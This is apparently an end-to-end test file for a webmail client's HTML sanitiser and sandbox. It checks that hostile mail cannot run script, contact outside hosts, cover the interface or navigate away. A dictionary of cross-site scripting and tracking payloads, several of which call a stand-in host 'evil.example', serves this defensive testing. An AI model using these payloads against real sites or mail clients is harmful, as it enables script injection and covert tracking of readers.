import { globSync, readFileSync } from "node:fs";
import { basename } from "node:path";
import type { Page, Request } from "playwright-core";
import { describe, expect, test } from "vitest";
import { waitFor } from "../../../support/wait.ts";
import { type newUser, openInbox, receiveStored, server } from "../../support/inbox.ts";
import { mailIn, openThread, PIXEL } from "../../support/reading.ts";

// What a stranger's HTML can do to who reads it: nothing but be read.

const EVIL = "https://evil.example";
const RUN = "parent.hacked=top.hacked=window.hacked=1;fetch('https://evil.example/run')";

/** Ways to run a script, to load something, or to leave the mail's place. */
const HOSTILE: Record<string, string> = {
  script: `<script>${RUN}</script><script src="${EVIL}/a.js"></script>`,
  "event attributes": `<img src=x onerror="${RUN}"><body onload="${RUN}"><p onmouseover="${RUN}" onclick="${RUN}">p</p>`,
  svg: `<svg onload="${RUN}"><script>${RUN}</script><image href="${EVIL}/svg.png"/><use href="${EVIL}/u.svg#a"/></svg>`,
  "math and mutation": `<math><mtext><table><mglyph><style><img src=x onerror="${RUN}"></style></mglyph></table></mtext></math>`,
  "links that are code": `<a href="javascript:${RUN}">js</a><a href="data:text/html,<script>${RUN}</script>">data</a><a href=" java&#x73;cript:${RUN}">x</a>`,
  frames: `<iframe src="${EVIL}/frame"></iframe><iframe srcdoc="<script>${RUN}</script>"></iframe><object data="${EVIL}/o"></object><embed src="${EVIL}/e">`,
  forms: `<form action="${EVIL}/form"><input name=a autofocus onfocus="${RUN}"><button>Send</button></form>`,
  "leaving the page": `<meta http-equiv="refresh" content="0;url=${EVIL}/refresh"><base href="${EVIL}/" target="_top">`,
  "links of the head": `<link rel="stylesheet" href="${EVIL}/a.css"><link rel="preload" as="image" href="${EVIL}/p.png"><link rel="dns-prefetch" href="${EVIL}"><link rel="icon" href="${EVIL}/i.ico">`,
  sheets: `<style>@import url(${EVIL}/i.css);@font-face{font-family:x;src:url(${EVIL}/f.woff)}p{font-family:x;background:url(${EVIL}/b.png);list-style-image:url(${EVIL}/l.png);cursor:url(${EVIL}/c.cur),auto}</style><p>styled</p>`,
  images: `<img src="${EVIL}/i.png"><img srcset="${EVIL}/s.png 1x"><picture><source srcset="${EVIL}/p.png"><img src="//evil.example/q.png"></picture><table background="${EVIL}/t.png"><tr><td style="background-image:url(${EVIL}/d.png)">x</td></tr></table><video poster="${EVIL}/v.png" src="${EVIL}/v.mp4"></video><audio src="${EVIL}/a.mp3" autoplay></audio><input type=image src="${EVIL}/in.png">`,
  overlay: `<div style="position:fixed;inset:0;z-index:99999;background:red">over</div><div style="position:absolute;top:-900px;left:-900px;width:9000px;height:9000px;background:red">all</div><div style="margin-top:-2000px;transform:scale(50)">up</div>`,
};

/** All that the page asks for from now on. */
function watch(page: Page): Request[] {
  const requests: Request[] = [];
  page.context().on("request", (request) => requests.push(request));
  return requests;
}

const foreign = (requests: Request[]): string[] =>
  requests
    .map((request) => request.url())
    .filter((url) => /^https?:/.test(url) && !url.startsWith(server.url));

/** The page's own marks of a script that ran, in all its frames. */
const marksIn = (page: Page) =>
  Promise.all(page.frames().map((frame) => frame.evaluate("window.hacked ?? null").catch(() => null)));

/** Fails if a mail lies over something that is not the mail. */
async function expectInPlace(page: Page): Promise<void> {
  const covered = await page.evaluate(() => {
    const pane = document.querySelector(".thread-pane")!.getBoundingClientRect();
    const parts = [
      ".thread-toolbar button",
      ".thread-header h1",
      ".message-header",
      ".reply-bar",
      ".sidebar",
      ".conversations",
    ];
    const wrong: string[] = [];
    for (const frame of document.querySelectorAll("iframe")) {
      const { left, right } = frame.getBoundingClientRect();
      if (left < pane.left || right > pane.right) wrong.push("the frame is wider than the pane");
    }
    for (const part of parts) {
      for (const element of document.querySelectorAll(part)) {
        const { left, top, width, height } = element.getBoundingClientRect();
        const [x, y] = [left + width / 2, top + Math.min(height / 2, 20)];
        if (x < 0 || y < 0 || x >= innerWidth || y >= innerHeight) continue;
        if (document.elementFromPoint(x, y)?.tagName === "IFRAME") wrong.push(`${part} is covered`);
      }
    }
    return wrong;
  });
  expect(covered).toEqual([]);
}

describe("a hostile mail runs nothing, asks no other host, and stays in its place", () => {
  const cases = globSync("test/fixtures/cases/html-*.html");

  test.each(Object.entries(HOSTILE))("%s", async (_, html) => {
    const { thread_id } = await receiveStored({ html: `<p>Seen</p>${html}<p>Mail end</p>` });
    const { page } = await openInbox();
    const requests = watch(page);
    const dialogs: string[] = [];
    page.on("dialog", (dialog) => {
      dialogs.push(dialog.message());
      void dialog.dismiss();
    });
    await openThread(page, thread_id);
    await mailIn(page).getByText("Mail end").waitFor();
    await mailIn(page)
      .locator("body")
      .click({ position: { x: 3, y: 3 }, force: true });
    await expectInPlace(page);
    expect(foreign(requests)).toEqual([]);
    expect(await marksIn(page)).toEqual(page.frames().map(() => null));
    expect(dialogs).toEqual([]);
    expect(page.context().pages()).toHaveLength(1);
    expect(page.url()).toBe(`${server.url}/app/inbox/${thread_id}`);
  });

  test("the mails that were once shown wrongly", async () => {
    expect(cases.length).toBeGreaterThan(15);
    const { page } = await openInbox();
    const requests = watch(page);
    const mails = await Promise.all(
      cases.map((file) => receiveStored({ html: `${readFileSync(file, "utf8")}<p>Mail end</p>` })),
    );
    for (const [at, { thread_id }] of mails.entries()) {
      await openThread(page, thread_id);
      await mailIn(page).getByText("Mail end").waitFor();
      await expectInPlace(page);
      expect(await marksIn(page), basename(cases[at]!)).toEqual(page.frames().map(() => null));
    }
    expect(foreign(requests)).toEqual([]);
  });
});

test("what the API's sanitiser would miss does not run either", async () => {
  const { thread_id, message_id } = await receiveStored({ html: "<p>Seen</p>" });
  const { page } = await openInbox();
  const sent: string[] = [];
  // What a policy refuses does not come here.
  await page.context().route(`${EVIL}/**`, (route) => {
    if (route.request().resourceType() !== "image") sent.push(route.request().url());
    return route.fulfill({ contentType: "image/png", body: PIXEL });
  });
  const { images: _, ...rest } = HOSTILE;
  const body = `<!doctype html><p>Not sanitised</p>${Object.values(rest).join("")}`;
  await page.route(`**/messages/${message_id}/html*`, (route) =>
    route.fulfill({ contentType: "text/html", body }),
  );
  await openThread(page, thread_id);
  await mailIn(page).getByText("Not sanitised").waitFor();
  await mailIn(page).getByText("js", { exact: true }).click({ force: true });
  await waitFor(async () => expect(await page.locator(".mail-frame[data-state=shown]").count()).toBe(1));
  expect(await marksIn(page)).toEqual(page.frames().map(() => null));
  await expectInPlace(page);
  expect(sent).toEqual([]);
  expect(new URL(page.url()).origin).toBe(server.url);
});

describe("remote images", () => {
  const html = `<p>Look</p><img src="${EVIL}/one.png" alt="one"><div style="background-image:url(${EVIL}/two.png)">x</div>${HOSTILE.sheets}${HOSTILE.frames}`;

  async function read(from: string, user?: Awaited<ReturnType<typeof newUser>>) {
    const { thread_id } = await receiveStored({ from, html });
    const opened = await openInbox(user ? { user } : {});
    await opened.page
      .context()
      .route(`${EVIL}/**`, (route) => route.fulfill({ contentType: "image/png", body: PIXEL }));
    const requests = watch(opened.page);
    await openThread(opened.page, thread_id);
    await mailIn(opened.page).getByText("Look").waitFor();
    return { ...opened, requests, thread_id };
  }

  test("load when they are asked for, and nothing else does", async () => {
    const { page, requests } = await read("one@images.example");
    expect(foreign(requests)).toEqual([]);
    await page.getByRole("button", { name: "Show images" }).click();
    await waitFor(() =>
      expect(foreign(requests)).toEqual(expect.arrayContaining([`${EVIL}/one.png`, `${EVIL}/two.png`])),
    );
    const others = requests.filter((request) => foreign([request]).length > 0);
    expect([...new Set(others.map((request) => request.resourceType()))]).toEqual(["image"]);
    for (const request of others) expect((await request.allHeaders()).referer).toBeUndefined();
    expect(await page.getByRole("button", { name: "Show images" }).count()).toBe(0);
  });

  test("are remembered for a sender, until that is taken back", async () => {
    const from = "two@images.example";
    const { page, requests, thread_id } = await read(from);
    await page.getByRole("button", { name: `Always from ${from}` }).click();
    await waitFor(() => expect(foreign(requests).length).toBeGreaterThan(0));
    const other = await receiveStored({ from, html });
    const before = requests.length;
    await openThread(page, other.thread_id);
    await page.getByText(`Images from ${from} are always shown.`).waitFor();
    await waitFor(() => expect(foreign(requests.slice(before)).length).toBeGreaterThan(0));
    const stranger = await receiveStored({ from: "three@images.example", html });
    await openThread(page, stranger.thread_id);
    await page.getByRole("button", { name: "Show images" }).waitFor();
    await openThread(page, thread_id);
    await page.getByRole("button", { name: "Ask again" }).click();
    await page.getByRole("button", { name: "Show images" }).waitFor();
  });
});

describe("a link", () => {
  test("opens in a new tab that knows nothing of this one", async () => {
    const { thread_id } = await receiveStored({ html: `<p><a href="https://shop.example/x">Shop</a></p>` });
    const { page, context } = await openInbox();
    await context.route("https://shop.example/**", (route) => route.fulfill({ body: "shop" }));
    await openThread(page, thread_id);
    const [popup] = await Promise.all([
      context.waitForEvent("page"),
      mailIn(page).getByRole("link", { name: "Shop" }).click(),
    ]);
    await popup.waitForLoadState();
    expect(popup.url()).toBe("https://shop.example/x");
    expect(await popup.evaluate("[window.opener, document.referrer]")).toEqual([null, ""]);
  });

  test("to a heading of the mail scrolls there", async () => {
    const html = `<p><a href="#end">Down</a></p><div style="height:3000px">long</div><h2 id="end">The end</h2>`;
    const { thread_id } = await receiveStored({ html });
    const { page } = await openInbox();
    await openThread(page, thread_id);
    await mailIn(page).getByRole("link", { name: "Down" }).click();
    await waitFor(async () =>
      expect(await page.evaluate(`document.querySelector(".thread-pane").scrollTop`)).toBeGreaterThan(1000),
    );
    expect(page.url()).toBe(`${server.url}/app/inbox/${thread_id}`);
  });

  test("to an address opens the composer", async () => {
    const html = `<a href="mailto:sales@shop.example?subject=x">Write</a>`;
    const { thread_id } = await receiveStored({ html });
    const { page } = await openInbox();
    await openThread(page, thread_id);
    await mailIn(page).getByRole("link", { name: "Write" }).click();
    await page.locator(".composer").waitFor();
    expect(page.context().pages()).toHaveLength(1);
  });
});
